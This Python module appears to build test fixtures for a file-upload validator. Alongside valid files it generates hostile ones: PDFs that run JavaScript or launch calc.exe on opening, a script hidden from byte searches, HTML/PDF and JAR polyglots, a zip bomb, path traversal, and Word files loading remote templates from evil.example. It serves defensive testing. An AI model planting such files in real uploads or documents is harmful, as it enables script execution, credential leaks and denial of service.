"""Files to upload, valid and hostile, generated here: each as the bytes that an attacker or an editor would send."""

import io
import struct
import zipfile
import zlib

from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

OOXML = "application/vnd.openxmlformats-officedocument"
MAINS = {
    "docx": ("word/document.xml", f"{OOXML}.wordprocessingml.document.main+xml"),
    "xlsx": ("xl/workbook.xml", f"{OOXML}.spreadsheetml.sheet.main+xml"),
    "pptx": ("ppt/presentation.xml", f"{OOXML}.presentationml.presentation.main+xml"),
    "docm": ("word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml"),
    "xlsm": ("xl/workbook.xml", "application/vnd.ms-excel.sheet.macroEnabled.main+xml"),
}
ODF = {"odt": "text", "ods": "spreadsheet", "odp": "presentation"}
SCRIPT = b"<!doctype html><script src='e.js'></script><script>window.top.name='ran';alert(1)</script>"
SVG = b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>alert(1)</script></svg>"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
EXE = b"MZ\x90\x00" + b"\x00" * 200
LOAD = (
    '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{}" {}/>'
)


def pdf(change=None, version="1.7"):
    """Return a PDF of one empty page; `change` modifies the writer first."""
    writer = PdfWriter()
    writer.pdf_header = f"%PDF-{version}"
    writer.add_blank_page(200, 200)
    if change:
        change(writer)
    output = io.BytesIO()
    writer.write(output)
    return output.getvalue()


def with_action(kind, **more):
    """Return a PDF that runs an action when it opens."""

    def change(writer):
        action = {NameObject("/S"): NameObject(kind)}
        action |= {NameObject(f"/{key}"): TextStringObject(value) for key, value in more.items()}
        writer._root_object[NameObject("/OpenAction")] = DictionaryObject(action)

    return pdf(change)


def pdf_with_packed_script():
    """Return a PDF with a script in a compressed object stream, under an escaped name: no byte search finds it."""
    packed = b"5 0 << /S /Java#53cript /J#53 (app.alert\\(1\\)) >>"
    first = packed.index(b"<<")
    stream = zlib.compress(packed)
    objects = [
        b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>\nendobj\n",
        b"2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n",
        b"3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>\nendobj\n",
        b"4 0 obj\n<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>\nstream\n%b\nendstream\nendobj\n"
        % (first, len(stream), stream),
    ]
    body, offsets = b"%PDF-1.7\n", []
    for item in objects:
        offsets.append(len(body))
        body += item
    rows = b"".join(struct.pack(">BIB", 1, offset, 0) for offset in offsets)
    table = struct.pack(">BIB", 0, 0, 255) + rows + struct.pack(">BIB", 2, 4, 0)
    table += struct.pack(">BIB", 1, len(body), 0)
    head = b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 1] /Root 1 0 R /Length %d >>\nstream\n" % len(table)
    return body + head + table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % len(body)


def pdf_with_names():
    """Return a PDF with a named script, which runs when it opens."""

    def change(writer):
        script = writer._add_object(
            DictionaryObject(
                {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("1")}
            )
        )
        tree = DictionaryObject({NameObject("/Names"): ArrayObject([TextStringObject("a"), script])})
        writer._root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): tree})

    return pdf(change)


def locked_pdf():
    return pdf(lambda writer: writer.encrypt("geheim", algorithm="RC4-128"))


def pdf_with_attachment():
    return pdf(lambda writer: writer.add_attachment("e.html", SCRIPT))


def pdf_with_dynamic_form():
    def change(writer):
        form = {NameObject("/XFA"): ArrayObject(), NameObject("/Fields"): ArrayObject()}
        writer._root_object[NameObject("/AcroForm")] = DictionaryObject(form)

    return pdf(change)


def archive(parts, packing=zipfile.ZIP_DEFLATED):
    """Return an archive of (name, content) pairs; a part named `mimetype` is not compressed."""
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w", packing) as file:
        for name, content in parts:
            file.writestr(name, content, zipfile.ZIP_STORED if name == "mimetype" else packing)
    return output.getvalue()


def office(kind="docx", parts=(), types=""):
    """Return an office file with additional parts and content types."""
    name, stated = MAINS[kind]
    content_types = (
        '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        f'<Default Extension="xml" ContentType="application/xml"/>{types}'
        f'<Override PartName="/{name}" ContentType="{stated}"/></Types>'
    )
    return archive([("[Content_Types].xml", content_types), (name, "<w/>"), *parts])


def loading(kind, target):
    """Return a Word file with a relationship to an external target."""
    relation = LOAD.format(kind, f'Target="{target}" TargetMode="External"')
    text = f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{relation}</Relationships>'
    return office(parts=[("word/_rels/settings.xml.rels", text)])


def open_document(kind="odt", parts=(), manifest=""):
    content_type = f"application/vnd.oasis.opendocument.{ODF[kind]}"
    listed = f"<manifest:manifest xmlns:manifest='urn:m'>{manifest}</manifest:manifest>"
    return archive(
        [("mimetype", content_type), ("META-INF/manifest.xml", listed), ("content.xml", "<o/>"), *parts]
    )


def bomb():
    """Return a Word file of some kilobytes that unpacks to hundreds of megabytes."""
    return office(parts=[(f"word/media/{number}.xml", b"\0" * 30_000_000) for number in range(8)])


def lying_archive():
    """Return a Word file in which a part declares a size smaller than its real one."""
    content = office(parts=[("word/x.xml", b"a" * 1000)])
    real, said = struct.pack("<I", 1000), struct.pack("<I", 10)
    return content.replace(real, said)


def image(kind="PNG", size=(40, 30), mode="RGB", **options):
    output = io.BytesIO()
    Image.new(mode, size, **({"color": (10, 90, 200)} if mode == "RGB" else {})).save(output, kind, **options)
    return output.getvalue()


def wide_png(width, height):
    """Return a PNG of few bytes whose header declares these dimensions."""

    def chunk(kind, content):
        body = kind + content
        return struct.pack(">I", len(content)) + body + struct.pack(">I", zlib.crc32(body))

    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", b"\x78\x9c") + chunk(b"IEND", b"")


def moving(kind):
    output = io.BytesIO()
    frames = [Image.new("RGB", (8, 8), colour) for colour in ("red", "blue")]
    frames[0].save(output, kind, save_all=True, append_images=frames[1:], duration=100)
    return output.getvalue()


def jpeg_with_secrets():
    """Return a rotated photo with a location, a comment, a thumbnail and XMP, each containing the word SECRET."""
    picture = Image.new("RGB", (60, 20), "white")
    exif = picture.getexif()
    exif[0x0112], exif[0x010F], exif[0x013B] = 6, "SECRET maker", "SECRET artist"
    exif.get_ifd(0x8825)[1] = "N"
    output = io.BytesIO()
    picture.save(output, "JPEG", exif=exif, comment=b"SECRET comment", xmp=b"<x:xmpmeta>SECRET</x:xmpmeta>")
    return output.getvalue()


GOOD = {
    "pdf": pdf(),
    **{kind: office(kind) for kind in ("docx", "xlsx", "pptx")},
    **{kind: open_document(kind) for kind in ODF},
    "png": image("PNG"),
    "jpg": image("JPEG"),
    "webp": image("WEBP"),
}
HOSTILE = {
    "html": SCRIPT,
    "html named pdf": b"<html><body>%PDF-1.7" + SCRIPT,
    "html before a pdf": SCRIPT + pdf(),
    "html after the header": b"%PDF-1.7\n" + SCRIPT,
    "html after a pdf": pdf() + SCRIPT,
    "space before a pdf": b"\n" + pdf(),
    "script": b"fetch('/admin/auth/user/')",
    "script with a picture's start": b"\x89PNG\r\n\x1a\n*/alert(1)",
    "svg": SVG,
    "svg with a mark before": b"\xef\xbb\xbf<?xml version='1.0'?>" + SVG,
    "xml": b"<?xml version='1.0'?><x/>",
    "exe": EXE,
    "elf": b"\x7fELF" + b"\x00" * 100,
    "gif": image("GIF", mode="P"),
    "gif with an archive": image("GIF", mode="P") + archive([("E.class", b"\xca\xfe\xba\xbe")]),
    "bmp": image("BMP"),
    "tiff": image("TIFF"),
    "text": b"gewone tekst",
    "csv": b"a,b\r\n1,2\r\n",
    "rtf": b"{\\rtf1 tekst}",
    "nothing": b"",
    "old word": OLE + b"\x00" * 600,
    "pdf with a script": pdf_with_names(),
    "pdf with a script at opening": with_action("/JavaScript", JS="app.alert(1)"),
    "pdf with a packed script": pdf_with_packed_script(),
    "pdf that starts a program": with_action("/Launch", F="calc.exe"),
    "pdf with an attachment": pdf_with_attachment(),
    "pdf with a dynamic form": pdf_with_dynamic_form(),
    "locked pdf": locked_pdf(),
    "pdf cut off": pdf()[:-200],
    "pdf with an archive": pdf() + archive([("E.class", b"\xca\xfe\xba\xbe")]),
    "pdf with an archive, ended well": pdf() + archive([("E.class", b"x")])[:-2] + b"\x06\x00%%EOF\n",
    "docm": office("docm"),
    "xlsm": office("xlsm"),
    "docx with macros": office(parts=[("word/vbaProject.bin", OLE)]),
    "docx with macros by another name": office(parts=[("word/media/image1.png", OLE + b"\x00" * 600)]),
    "docx with a program": office(parts=[("word/media/image1.png", EXE)]),
    "docx with a script": office(parts=[("word/e.js", b"alert(1)")]),
    "docx with a page": office(parts=[("word/afchunk.htm", SCRIPT)]),
    "docx that names a control": office(
        types='<Override PartName="/word/c.bin" ContentType="application/vnd.ms-office.activeX"/>'
    ),
    "docx with a template elsewhere": loading("attachedTemplate", "https://evil.example/t.dotm"),
    "docx with a template on a share": loading("attachedTemplate", "file:////evil.example/x/t.dotm"),
    "docx with an object elsewhere": loading("oleObject", "https://evil.example/o"),
    "docx with entities": archive(
        [("[Content_Types].xml", '<!DOCTYPE x [<!ENTITY a "b">]><Types>&a;</Types>')]
    ),
    "two kinds at once": office(
        types=f'<Override PartName="/xl/workbook.xml" ContentType="{MAINS["xlsx"][1]}"/>',
    ),
    "docx with a pdf inside its start": office().replace(b"[Content_Types].xml", b"%PDF-1.7 xxxxxxxxx0"),
    "docx after html": SCRIPT + office(),
    "docx before html": office() + SCRIPT,
    "docx cut off": office()[:-30],
    "docx that leaves itself": office(parts=[("../../etc/x.xml", b"x")]),
    "bomb": bomb(),
    "part that lies": lying_archive(),
    "jar": archive([("META-INF/MANIFEST.MF", b"Main-Class: E"), ("E.class", b"\xca\xfe\xba\xbe")]),
    "docx and jar": office(parts=[("META-INF/MANIFEST.MF", b"Main-Class: E")]),
    "zip": archive([("a.txt", b"x")]),
    "empty zip": archive([]),
    "odt with macros": open_document(parts=[("Basic/Standard/Module1.xml", b"<x/>")]),
    "odt with a python macro": open_document(parts=[("Scripts/python/e.py", b"x")]),
    "locked odt": open_document(manifest="<manifest:encryption-data/>"),
    "epub": archive([("mimetype", "application/epub+zip"), ("META-INF/manifest.xml", b"<x/>")]),
    "wide png": wide_png(12_000, 12_000),
    "endless png": wide_png(2_000_000_000, 2_000_000_000),
    "long png": wide_png(12_000, 100),
    "png of many pixels": wide_png(9_000, 9_000),
    "png cut off": image("PNG", (200, 200))[:-40],
    "jpeg of nothing": b"\xff\xd8\xff\xe0" + b"\x00" * 40,
    "moving png": moving("PNG"),
    "moving webp": moving("WEBP"),
    "sound": b"RIFF\x24\x00\x00\x00WAVEfmt ",
}
# Pictures with appended data: accepted, but only the picture is kept.
CARRIERS = {
    "png": image("PNG") + SCRIPT + archive([("E.class", b"x")]),
    "jpg": image("JPEG", comment=SCRIPT) + SCRIPT,
    "webp": image("WEBP") + SCRIPT,
}
